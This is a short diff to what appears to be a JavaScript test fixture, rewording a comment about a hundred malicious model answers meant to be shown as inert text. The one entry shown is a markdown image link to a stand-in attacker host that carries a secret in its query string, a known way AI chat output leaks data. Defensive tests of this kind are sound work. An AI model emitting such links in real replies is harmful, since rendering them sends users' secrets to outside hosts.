@@ -1,4 +1,4 @@
-// A hundred answers of a model that means harm: to be shown as text, and to do nothing.
+// A hundred malicious answers of a model, which must be displayed as text and have no effect.
 
 const texts = [
   '![x](https://evil.example/log?data=SECRET)',
